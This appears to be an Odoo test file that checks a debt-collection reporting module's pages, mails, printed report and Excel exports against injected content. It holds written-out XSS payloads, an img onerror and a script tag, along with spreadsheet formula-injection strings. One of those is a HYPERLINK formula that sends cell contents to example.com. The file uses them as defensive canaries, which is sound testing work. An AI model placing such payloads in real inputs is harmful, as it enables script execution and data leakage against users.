import io
from datetime import date
from unittest.mock import patch

import openpyxl
from freezegun import freeze_time
from lxml import html

from odoo.tests import HttpCase, tagged

from .common import ReportCommon
from .crawler_book import LATE, CrawlerBook

EVIL = "<img src=x onerror=alert(1)><script>alert(2)</script>\"'"
SHOWN = "onerror=alert(1)"
FORMULAS = ('=HYPERLINK("http://example.com/?"&A1,"Paid")', "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1")
# What a page of ours has no use for.
FORBIDDEN = {"script", "img", "iframe", "object", "embed", "svg", "form", "meta", "base"}


@tagged("post_install", "-at_install")
@freeze_time("2026-06-30 15:00:00")
class TestReportsCanaries(HttpCase, ReportCommon):
    """What people wrote is text on every page, in papers, mails and workbooks."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.company.partner_id.name = f"Company {EVIL}"
        cls.company.email = "cobranca@example.com"
        cls.manager.name = f"Marta {EVIL}"
        cls.manager.email = "marta@example.com"
        cls.env["cobranca.report.subscription"].search([]).active = False
        contract = cls.make_contract(activate=False)
        cls.book = CrawlerBook(cls.ledger, f"Otília {EVIL}", 4321.07, contract, cls.manager)
        for name in FORMULAS:
            partner = cls.env["res.partner"].create({"name": name, "company_id": cls.company.id})
            cls.ledger.agree([cls.ledger.invoice(partner, *LATE, 100)], LATE[1], [(date(2026, 7, 9), 100)])
        cls.book.fill()
        cls.env.flush_all()
        cls.env.invalidate_all()

    def assert_inert(self, content, is_shown=True, allowed=()):
        """No element and no attribute came of a text, which is there as such."""
        page = html.fromstring(content)
        # Of a whole page, what is not put around it by Odoo.
        page = (page.xpath("//main") or [page])[0]
        for element in page.iter():
            if not isinstance(element.tag, str):
                continue
            self.assertNotIn(element.tag, FORBIDDEN - {*allowed}, content[:2000])
            self.assertNotIn("x", (element.get("src"), element.get("href")))
            for name, value in element.attrib.items():
                self.assertFalse(name.startswith("on"), f"{element.tag} {name}={value}")
                self.assertFalse("".join(value.split()).lower().startswith("javascript:"), value)
        self.assertNotIn("<script>alert(2)", content)
        self.assertEqual(SHOWN in page.text_content(), is_shown, content[:2000])

    # --- pages ---

    def test_pages_of_the_backend(self):
        own = self.env(user=self.manager.id)
        overview = own["cobranca.overview"].browse(self.company.id)
        # Names of steps and agencies stand there.
        self.assert_inert(overview.page)
        forecast = own["cobranca.cash.forecast"].search([("company_id", "=", self.company.id)])
        pages = [own["cobranca.delay.page"].create({}).bands_html, own["cobranca.cohort.page"].create({}).heat_html]
        for page in (*pages, forecast.weeks_html, *own["cobranca.insight"].search([]).mapped("text_html")):
            self.assert_inert(page, is_shown=False)

    def test_the_page_behind_a_mail(self):
        link = self.book.subscription._get_leave_link(self.manager, "").partition("//")[2].partition("/")[2]
        self.assert_inert(self.url_open(f"/{link}").text, allowed=("form",))

    def test_the_paper(self):
        self.authenticate("manager", "manager")
        [number] = self.env["cobranca.portfolio.snapshot"].search([("company_id", "=", self.company.id)], limit=1).ids
        paper = self.url_open(f"/report/html/cobranca_relatorios.report_summary/{number}").text
        self.assertIn("Marta", paper)
        self.assert_inert(paper)

    # --- mails ---

    def test_the_mail(self):
        self.env["ir.mail_server"].search([]).active = False
        self.env["ir.mail_server"].create({"name": "Test", "smtp_host": "mail.example.com"})
        subscription = self.book.subscription.sudo()
        subscription.next_date = "2026-07-30"
        Delivery = type(self.env["cobranca.invoice.delivery"])
        with patch.object(Delivery, "_listens", lambda *_arguments: False), freeze_time("2026-07-30 15:00:00"):
            subscription._send_due()
        mails = self.env["mail.mail"].search([("model", "=", "cobranca.report.sending")])
        self.assertEqual(len(mails), 2, subscription.waits_for)
        for mail in mails:
            self.assert_inert(str(mail.body_html))
            self.assertNotIn("\n", mail.subject)
        self.assert_workbook(mails[0].attachment_ids.raw)

    # --- workbooks ---

    def assert_workbook(self, content):
        """No formula but our own sums.

        :return: list of the texts in it
        """
        texts = []
        for sheet in openpyxl.load_workbook(io.BytesIO(content)):
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        self.assertRegex(cell.value, r"^=SUBTOTAL\(109,[A-Z]+\d+:[A-Z]+\d+\)$")
                    self.assertFalse(cell.hyperlink and "example" in str(cell.hyperlink.target), cell.coordinate)
                    texts.append(str(cell.value))
        return texts

    def test_workbooks(self):
        own = self.env(user=self.manager.id)["cobranca.report.export"]
        seen = {}
        for kind, _title in own._selection_kind():
            choice = own.create({"kind": kind, "company_id": self.company.id})
            if choice._get_maker()._extension == "xlsx":
                seen[kind] = self.assert_workbook(choice._get_maker()._make(choice))
        for kind in ("aging", "agreements"):
            for name in (*FORMULAS[:4], self.book.partner.name):
                self.assertTrue(any(name.strip() in text for text in seen[kind]), f"{kind}: {name}")
